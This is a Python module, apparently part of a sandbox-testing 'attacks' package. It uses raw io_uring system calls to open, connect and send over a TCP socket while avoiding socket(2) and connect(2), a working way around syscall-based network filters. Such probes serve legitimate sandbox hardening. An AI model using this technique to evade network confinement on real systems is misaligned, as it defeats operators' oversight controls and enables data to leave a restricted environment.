"""Just enough of io_uring(7) to open a connection without socket(2) or connect(2)."""

from __future__ import annotations

import ctypes
import mmap
import os
import socket
import struct
from typing import Final

from attacks.attempt import system_call

_ENTRIES = 4
_SUBMISSIONS_AT = 0x1000_0000
_OP_CONNECT, _OP_SEND, _OP_SOCKET = 16, 26, 45
_GETEVENTS = 1
_SQE = struct.Struct("<BBHiQQIIQ24x")
_CQE = struct.Struct("<QiI")


class Ring:
    """A ring of one operation at a time.

    Raises:
        OSError: the kernel refuses one.
    """

    def __init__(self) -> None:
        parameters = ctypes.create_string_buffer(120)
        self._fd: Final = system_call("io_uring_setup", _ENTRIES, parameters)
        _, n_completions, *_ = struct.unpack_from("<2I", parameters)
        _, self._sq_tail, _, _, _, _, self._sq_array = struct.unpack_from("<7I", parameters, 40)
        self._cq_head, _, self._cq_mask, _, _, self._cqes = struct.unpack_from(
            "<6I", parameters, 80
        )
        size_bytes = max(self._sq_array + 4 * _ENTRIES, self._cqes + _CQE.size * n_completions)
        self._ring = mmap.mmap(self._fd, size_bytes)
        self._submissions = mmap.mmap(self._fd, _SQE.size * _ENTRIES, offset=_SUBMISSIONS_AT)

    def __enter__(self) -> Ring:
        return self

    def __exit__(self, *_: object) -> None:
        os.close(self._fd)

    def send_over_tcp(self, address: tuple[str, int], data: bytes) -> None:
        """Open a socket, connect it and send the data."""
        family, port = struct.pack("=H", socket.AF_INET), struct.pack("!H", address[1])
        packed = family + port + bytes(map(int, address[0].split("."))) + bytes(8)
        target, payload = ctypes.create_string_buffer(packed, 16), ctypes.create_string_buffer(data)
        descriptor = self._do(_OP_SOCKET, socket.AF_INET, offset=socket.SOCK_STREAM)
        self._do(_OP_CONNECT, descriptor, offset=16, at=ctypes.addressof(target))
        self._do(_OP_SEND, descriptor, at=ctypes.addressof(payload), length=len(data))
        os.close(descriptor)

    def _do(self, operation: int, fd: int, offset: int = 0, at: int = 0, length: int = 0) -> int:
        self._submissions[: _SQE.size] = _SQE.pack(operation, 0, 0, fd, offset, at, length, 0, 0)
        (tail,) = struct.unpack_from("<I", self._ring, self._sq_tail)
        struct.pack_into("<I", self._ring, self._sq_array + 4 * (tail % _ENTRIES), 0)
        struct.pack_into("<I", self._ring, self._sq_tail, tail + 1)
        system_call("io_uring_enter", self._fd, 1, 1, _GETEVENTS, 0, 0)
        (head,) = struct.unpack_from("<I", self._ring, self._cq_head)
        (mask,) = struct.unpack_from("<I", self._ring, self._cq_mask)
        _, result, _ = _CQE.unpack_from(self._ring, self._cqes + _CQE.size * (head & mask))
        struct.pack_into("<I", self._ring, self._cq_head, head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return int(result)
